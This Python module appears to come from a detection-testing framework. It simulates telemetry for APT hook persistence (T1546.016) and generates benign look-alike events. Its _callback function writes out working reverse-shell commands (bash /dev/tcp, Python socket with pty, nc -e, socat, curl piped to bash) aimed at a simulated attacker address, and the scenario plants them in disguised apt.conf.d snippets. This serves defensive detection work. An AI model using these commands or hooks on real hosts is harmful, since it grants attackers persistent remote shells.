"""Package-manager hook persistence (T1546.016): a root operator drops a snippet into
/etc/apt/apt.conf.d whose Invoke hook opens a shell back to them, and every package-list
refresh or dpkg run afterwards starts it again.

Per instance: the host and the administrator account used to get in, how the snippet is
written (tee, a shell redirection, a copy from a staging file, a Python one-liner), the
snippet's name (an imitation of Ubuntu's numbered snippets), the hook directive
(`APT::Update::Pre-Invoke`, `APT::Update::Post-Invoke`, `DPkg::Post-Invoke`), the
callback (bash /dev/tcp, a Python socket, `nc -e`, socat, or a download piped into a
shell), the address and port, and which package runs fire it.

Look-alikes: Ansible, Ubuntu Pro's timer and administrators adding repositories write
APT configuration; a cache-proxy probe hook and DPkg::Post-Invoke clean-up hooks start
shells (and netcat, curl) under apt; administrators test connectivity with /dev/tcp,
netcat and socat.
"""

from __future__ import annotations

import datetime as dt

from pytest_ctirealm.telemetry.campaign import Instance
from pytest_ctirealm.telemetry.context import SimContext
from pytest_ctirealm.telemetry.environment import LINUX_HOSTS
from pytest_ctirealm.telemetry.linux import Process
from pytest_ctirealm.telemetry.scenarios.base import Stages, Timeline, incident_start, scenario
from pytest_ctirealm.telemetry.scenarios.linux.common import (
    BASH,
    PYTHON,
    SH,
    LookalikeFamily,
    ansible,
    register_lookalikes,
    root_session,
)

CAMPAIGN = "apt_hook_persistence"
CONF_DIR = "/etc/apt/apt.conf.d"
_SNIPPET_NUMBERS = ("00", "01", "02", "05", "10", "15", "20", "30", "60", "80", "90", "99")
_SNIPPET_NAMES = (
    "cache-refresh",
    "apt-metrics",
    "periodic-sync",
    "update-stamp",
    "mirror-check",
    "index-verify",
    "security-notify",
    "pkg-stats",
    "listchanges-extra",
    "esm-refresh",
    "motd-news",
    "archive-timer",
)
_DIRECTIVES = ("APT::Update::Pre-Invoke", "APT::Update::Post-Invoke", "DPkg::Post-Invoke")


def _callback(instance: Instance) -> str:
    """The command the hook runs: a shell back to the operator, in one of the forms public
    reporting describes."""
    ip = instance.attacker_ip("callback_ip")
    port = instance.port("callback_port")
    forms = {
        "dev_tcp": f'bash -c "bash -i >& /dev/tcp/{ip}/{port} 0>&1"',
        "python": (
            "python3 -c 'import socket,os,pty;s=socket.socket();"
            f's.connect(("{ip}",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];'
            'pty.spawn("/bin/bash")\''
        ),
        "netcat": f"nc -e /bin/bash {ip} {port}",
        "socat": f"socat exec:'bash -li',pty,stderr,setsid tcp:{ip}:{port}",
        "download": f"curl -fsS http://{ip}:{port}/{instance.hex('script', 6)} | bash",
    }
    return forms[instance.pick("callback", sorted(forms))]


def _write_snippet(t: Timeline, instance: Instance, root: Process, path: str, how: str) -> None:
    """The operator writes the snippet from a root shell, *how* being one of four ways."""
    if how == "tee":
        writer = t.run("hook_writer", root, "/usr/bin/tee", f"tee {path}", after=(20, 90))
    elif how == "redirect":
        writer = t.run("hook_writer", root, BASH, f"bash -c cat > {path} << 'EOF'", after=(30, 90))
    elif how == "copy":
        staging = f"/dev/shm/.{instance.hex('staging', 4)}"
        writer = t.run("hook_writer", root, "/usr/bin/cp", f"cp {staging} {path}", after=(30, 90))
    else:
        writer = t.run(
            "hook_writer",
            root,
            "/usr/bin/python3.10",
            f"python3 -c open('{path}','w').write(__import__('sys').stdin.read())",
            after=(30, 90),
        )
    t.file("hook_written", writer, "FileCreated", path, size=instance.between(90, 240))


def _package_run(t: Timeline, directive: str, stage: str) -> Process:
    """A package-manager run of the kind *directive* hooks into; returns the process that
    starts the hook's shell."""
    systemd = t.daemon("systemd")
    if directive.startswith("APT::Update"):
        daily = t.run(
            stage,
            systemd,
            "/usr/lib/apt/apt.systemd.daily",
            "/bin/sh /usr/lib/apt/apt.systemd.daily update",
            "root",
        )
        return t.run(stage, daily, "/usr/bin/apt-get", "apt-get -qq -y update", "root")
    return t.run(
        stage, systemd, "/usr/bin/python3", "/usr/bin/python3 /usr/bin/unattended-upgrade", "root"
    )


@scenario(
    CAMPAIGN,
    "linux",
    ("access", "hook_writer", "hook_written", "apt_timer", "hook_executed", "callback"),
)
def apt_hook_persistence(ctx: SimContext) -> Stages:
    """Plant the hook, then let two to four package runs fire it."""
    instance = Instance(ctx, CAMPAIGN)
    host = instance.linux_host("host")
    admin = instance.pick("account", host.admin_users)
    t = Timeline(ctx, CAMPAIGN, host, incident_start(ctx, "apt", (0, 9)))
    root = root_session(t, admin)
    # A snippet, and a spare under another name in case the first is found.
    names = [instance.name_like(f"snippet_{n}", _SNIPPET_NUMBERS, _SNIPPET_NAMES) for n in (1, 2)]
    if names[0] == names[1]:
        names.pop()
    writer = instance.pick("writer", ("tee", "redirect", "copy", "python"))
    for name in names:
        _write_snippet(t, instance, root, f"{CONF_DIR}/{name}", writer)
    directive = instance.pick("directive", _DIRECTIVES)
    callback = _callback(instance)
    for _ in range(instance.between(2, 4)):
        t.wait(2 * 3600, 7 * 3600)
        if t.now >= ctx.end:
            break
        manager = _package_run(t, directive, "apt_timer")
        hook = t.run("hook_executed", manager, SH, f"sh -c nohup {callback} > /dev/null 2>&1 &")
        program = callback.split()[0]
        path = {"bash": BASH, "python3": "/usr/bin/python3.10", "nc": "/usr/bin/nc.traditional"}
        t.run("callback", hook, path.get(program, f"/usr/bin/{program}"), callback.split(" | ")[0])
    return t.stages


# -- look-alikes ---------------------------------------------------------------------------

_ANSIBLE_SNIPPETS = (
    "95proxy",
    "99contoso-retries",
    "90assume-yes",
    "52unattended-upgrades-local",
    "10no-recommends",
    "99phased-updates",
)
_REPOSITORIES = ("docker", "azure-cli", "microsoft-prod", "nodesource", "pgdg", "hashicorp")
_POST_INVOKE = (
    "sh -c rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true",
    "sh -c if [ -d /var/lib/update-notifier ]; then touch /var/lib/update-notifier/dpkg-run-stamp; fi; /usr/lib/update-notifier/update-motd-updates-available 2>/dev/null || true",
    "sh -c /usr/bin/test -e /usr/share/dbus-1/system-services/org.freedesktop.PackageKit.service && /usr/bin/test -S /var/run/dbus/system_bus_socket && /usr/bin/gdbus call --system --dest org.freedesktop.PackageKit --object-path /org/freedesktop/PackageKit --timeout 4 --method org.freedesktop.PackageKit.StateHasChanged cache-update > /dev/null; /bin/echo > /dev/null",
)
_PACKAGES = (
    "htop",
    "jq",
    "docker-ce",
    "azure-cli",
    "postgresql-client-14",
    "nginx",
    "tmux",
    "unzip",
)
_CONNECTIVITY = (
    ("bash -c echo > /dev/tcp/10.1.3.4/5432 && echo open", BASH),
    ("timeout 3 bash -c </dev/tcp/azure.archive.ubuntu.com/443", "/usr/bin/timeout"),
    ("nc -zv 10.1.3.4 5432", "/usr/bin/nc.openbsd"),
    ("nc -zvw3 10.1.1.4 443", "/usr/bin/nc.openbsd"),
    ("nc -zv packages.microsoft.com 443", "/usr/bin/nc.openbsd"),
    ("bash -c cat < /dev/null > /dev/tcp/10.1.2.4/8080", BASH),
    ("socat - TCP:10.1.2.4:8080,connect-timeout=3", "/usr/bin/socat"),
    (
        "python3 -c import socket;socket.create_connection(('10.1.3.4',5432),3)",
        "/usr/bin/python3.10",
    ),
)


def _ansible_apt_config(ctx: SimContext, family: LookalikeFamily) -> None:
    """Ansible pushing APT settings (python3 through sudo)."""
    stage = family.name
    for t, root in family.root_sessions(family.host_moments(0, 1), user="azureuser"):
        writer = ansible(t, root, stage, "copy")
        name = t.rng.choice(_ANSIBLE_SNIPPETS)
        t.file(stage, writer, "FileCreated", f"{CONF_DIR}/{name}")


def _repository_setup(ctx: SimContext, family: LookalikeFamily) -> None:
    """An administrator adds a vendor repository, then refreshes (the proxy probe runs)."""
    stage = family.name
    for t, root in family.root_sessions(family.host_moments(0, 1)):
        repo = t.rng.choice(_REPOSITORIES)
        gpg = t.run(stage, root, "/usr/bin/gpg", f"gpg --dearmor -o /etc/apt/keyrings/{repo}.gpg")
        t.file(stage, gpg, "FileCreated", f"/etc/apt/keyrings/{repo}.gpg")
        tee = t.run(stage, root, "/usr/bin/tee", f"tee /etc/apt/sources.list.d/{repo}.list")
        t.file(stage, tee, "FileCreated", f"/etc/apt/sources.list.d/{repo}.list")
        apt = t.run(stage, root, "/usr/bin/apt", "apt update", after=(5, 30))
        t.run(
            stage,
            apt,
            SH,
            "sh -c /usr/bin/curl -fsS --max-time 2 http://10.1.0.10:3142/acng-report.html > /dev/null || true",
        )


def _ubuntu_pro_refresh(ctx: SimContext, family: LookalikeFamily) -> None:
    """Ubuntu Pro's timer refreshing its APT proxy and auth snippets, once a day."""
    stage = family.name
    for host, moment in family.host_moments(1, 1, office=False):
        t = family.on(host, moment)
        timer = t.run(
            stage,
            t.daemon("systemd"),
            PYTHON,
            "/usr/bin/python3 /usr/lib/ubuntu-advantage/timer.py",
            "root",
        )
        for path in (
            "/etc/apt/apt.conf.d/90ubuntu-advantage-aptproxy",
            "/etc/apt/auth.conf.d/90ubuntu-advantage",
        ):
            if t.rng.random() < 0.7:
                t.file(stage, timer, "FileModified", path)


def _update_hooks(ctx: SimContext, family: LookalikeFamily) -> None:
    """The platform team's cache-proxy probe hook, rolled out to some hosts, on the
    extra timer runs."""
    stage = family.name
    for host in LINUX_HOSTS:
        if family.rng.random() >= 0.6:
            continue
        for day in ctx.day_range():
            moment = ctx.day_start(day) + dt.timedelta(
                hours=family.rng.choice((11, 17, 23)), minutes=family.rng.randrange(60)
            )
            t = family.on(host, moment)
            manager = _package_run(t, "APT::Update::Post-Invoke", stage)
            probe = t.run(
                stage,
                manager,
                SH,
                "sh -c /usr/local/sbin/apt-proxy-detect.sh >/dev/null 2>&1 || true",
            )
            t.run(stage, probe, "/usr/bin/nc.openbsd", "nc -z -w 2 10.1.0.10 3142")


def _dpkg_post_invoke(ctx: SimContext, family: LookalikeFamily) -> None:
    """Packages installed by hand: dpkg's Post-Invoke hooks run after each."""
    stage = family.name
    for t, root in family.root_sessions(family.host_moments(0, 1)):
        package = t.rng.choice(_PACKAGES)
        apt = t.run(stage, root, "/usr/bin/apt-get", f"apt-get install -y {package}")
        t.run(
            stage,
            apt,
            "/usr/bin/dpkg",
            f"/usr/bin/dpkg --status-fd 35 --unpack --auto-deconfigure /var/cache/apt/archives/{package}.deb",
        )
        for hook in t.rng.sample(_POST_INVOKE, 2):
            t.run(stage, apt, SH, hook, after=(2, 9))


def _connectivity_tests(ctx: SimContext, family: LookalikeFamily) -> None:
    """Administrators checking that a service answers."""
    stage = family.name
    for t, root in family.root_sessions(family.host_moments(0, 2)):
        command, image = t.rng.choice(_CONNECTIVITY)
        t.run(stage, root, image, command)


_FAMILIES = {
    "ansible_apt_config": _ansible_apt_config,
    "repository_setup": _repository_setup,
    "ubuntu_pro_refresh": _ubuntu_pro_refresh,
    "update_hooks": _update_hooks,
    "dpkg_post_invoke": _dpkg_post_invoke,
    "connectivity_tests": _connectivity_tests,
}

register_lookalikes(CAMPAIGN, _FAMILIES)
